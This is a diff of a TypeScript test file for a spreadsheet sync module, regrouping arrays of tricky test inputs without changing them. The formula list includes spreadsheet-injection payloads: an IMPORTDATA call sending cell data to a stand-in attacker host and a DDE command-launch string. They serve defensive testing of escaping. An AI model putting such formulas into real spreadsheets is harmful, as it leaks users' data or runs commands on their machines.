@@ -4,71 +4,18 @@ import type { AddressInfo } from 'node:net';
 import { syncOf, useJobsSpreadsheet } from './jobs-spreadsheet.js';
 
 const FORMULAS = [
-  '=1+1',
-  '=IMPORTDATA("https://evil.example/?"&A1)',
-  '+1+1',
-  '-2+3',
-  '@SUM(A1:A9)',
-  '=HYPERLINK("x","y")',
-  '==',
-  '=',
-  "'=1+1",
-  "''quoted",
-  "=cmd|' /C calc'!A0",
-  ' =1+1',
-  '\t=1+1',
-  '\n=1+1',
-  '\r=1+1',
-  '=\u00a01',
-  '＝1+1',
-  '{=1+1}',
-  '=EXPANSIONS()',
-  '-',
-  '+',
-  '@',
-  "'",
-];
+  ['=1+1', '=IMPORTDATA("https://evil.example/?"&A1)', '+1+1', '-2+3', '@SUM(A1:A9)', '=HYPERLINK("x","y")'],
+  ['==', '=', "'=1+1", "''quoted", "=cmd|' /C calc'!A0", ' =1+1', '\t=1+1', '\n=1+1', '\r=1+1', '=\u00a01'],
+  ['＝1+1', '{=1+1}', '=EXPANSIONS()', '-', '+', '@', "'"],
+].flat();
 const LOOK_ALIKES = [
-  'TRUE',
-  'false',
-  'WAHR',
-  '1',
-  '00123',
-  '1e5',
-  '1.5',
-  '1,5',
-  '50%',
-  '$100',
-  '2026-01-05',
-  '5/1/2026',
-  '5 May',
-  '12:30',
-  '1/2',
-  '(100)',
-  '#REF!',
-  '#N/A',
-  'NaN',
-  'null',
-  'undefined',
-  'Infinity',
-  '0x1F',
-];
+  ['TRUE', 'false', 'WAHR', '1', '00123', '1e5', '1.5', '1,5', '50%', '$100', '2026-01-05', '5/1/2026'],
+  ['5 May', '12:30', '1/2', '(100)', '#REF!', '#N/A', 'NaN', 'null', 'undefined', 'Infinity', '0x1F'],
+].flat();
 const ODD = [
-  'a\tb',
-  'line\nbreak',
-  'zero\u0000byte',
-  '\u202eright to left',
-  'e\u0301',
-  '\u00e9',
-  '👩‍💻',
-  '\ud800half',
-  '<b>bold</b>',
-  '&lt;script&gt;',
-  '"quotes"',
-  'x'.repeat(60_000),
-  '\u200bzero width',
-  '\ufeffmark',
-];
+  ['a\tb', 'line\nbreak', 'zero\u0000byte', '\u202eright to left', 'e\u0301', '\u00e9', '👩‍💻', '\ud800half'],
+  ['<b>bold</b>', '&lt;script&gt;', '"quotes"', 'x'.repeat(60_000), '\u200bzero width', '\ufeffmark'],
+].flat();
 const VALUES = [...FORMULAS, ...LOOK_ALIKES, ...ODD];
 
 /** Markup, control marks and halves of characters do not come through. */
@@ -76,21 +23,8 @@ const ALTERED = ['<', '&', '\t', '\n', '\r', '\u0000', '\ud800', '\ufeff'];
 
 /** Ids that are easily taken for each other. */
 const IDS = [
-  '1',
-  '01',
-  '1.0',
-  '1e0',
-  'TRUE',
-  'true',
-  '=1',
-  "'1",
-  'a',
-  'A',
-  '2026-01-05',
-  '1/5/2026',
-  'x y',
-  'x  y',
-];
+  ['1', '01', '1.0', '1e0', 'TRUE', 'true', '=1', "'1", 'a', 'A', '2026-01-05', '1/5/2026', 'x y', 'x  y'],
+].flat();
 
 let server: http.Server;
 let baseUrl = '';
